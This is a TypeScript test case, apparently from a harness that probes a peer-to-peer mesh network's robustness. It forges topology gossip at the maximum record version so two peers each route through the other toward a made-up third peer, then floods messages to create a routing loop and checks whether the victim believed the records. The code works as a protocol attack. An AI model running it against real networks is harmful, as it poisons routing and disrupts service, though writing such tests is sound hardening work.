import { PeerName } from "../../../src/peer-name.ts";
import { encodeBroadcast, encodeGossip, encodeUnicast, Tag } from "../../../src/wire/index.ts";
import type { Endpoint } from "../../driver/endpoint.ts";
import { defineAttack } from "../attack.ts";
import { fakeName, topologyUpdate } from "../bytes/topology.ts";
import { nameBytes } from "../topology-sender.ts";

const highest = 2n ** 64n - 1n;

/** The UID of a peer, as the control interface of that peer says. */
async function uidOf({ host, port }: Endpoint, name: string): Promise<bigint> {
  const text = await (await fetch(`http://${host}:${port}/status`)).text();
  const found = new RegExp(`"Name":\\s*"${name}"[^{}\\[\\]]*?"UID":\\s*(\\d+)`).exec(text);
  if (found === null) throw new Error(`no UID of ${name} in ${text.slice(0, 300)}`);
  return BigInt(found[1]!);
}

export default defineAttack({
  title:
    "false records at the highest version, by which two peers each hold the other for the way to a third",
  group: "peer",
  companion: true,
  watchMs: 4_000,
  limits: ["versions of records"],
  bars: { cpuSeconds: 1.2 },
  gate: true,
  async run(field) {
    const { companion, victimName, http } = field.spec;
    const other = companion!;
    const missing = fakeName(9);
    const destination = PeerName.fromBytes(missing, "mac");
    if (field.spec.control) return field.begin(); // a control run has nobody to send on
    const uids = { victim: await uidOf(http!, victimName), other: await uidOf(other.http, other.name) };
    await field.begin();
    const [atVictim, atOther] = [await field.join(0), await field.join(1, {}, other.target)];
    await field.sleep(300);
    const lie = (about: string, uid: bigint, neighbour: string) => {
      const via = nameBytes(about);
      return topologyUpdate([
        {
          ...{ name: via, nickName: "x", uid, version: highest },
          connections: [
            { name: nameBytes(neighbour), established: true, outbound: true },
            { name: missing, established: true, outbound: true },
          ],
        },
        { name: missing, uid: 1n, version: 1n, connections: [{ name: via, established: true }] },
      ]);
    };
    const tell = (peer: typeof atVictim, update: Uint8Array) =>
      peer.send(Tag.gossip, encodeGossip("topology", peer.name, update));
    tell(atVictim, lie(other.name, uids.other, victimName));
    tell(atOther, lie(victimName, uids.victim, other.name));
    await field.sleep(600);
    for (let n = 0; n < 100; n++) {
      atVictim.send(Tag.unicast, encodeUnicast("x", atVictim.name, destination, Buffer.alloc(100)));
      atVictim.send(Tag.broadcast, encodeBroadcast("x", destination, Buffer.from(`${n}`)));
    }
    await field.sleep(200);
    const status = await (await fetch(`http://${http!.host}:${http!.port}/status`)).text();
    field.notes.believed = status.includes(`${highest}`);
    atVictim.close();
    atOther.close();
  },
});
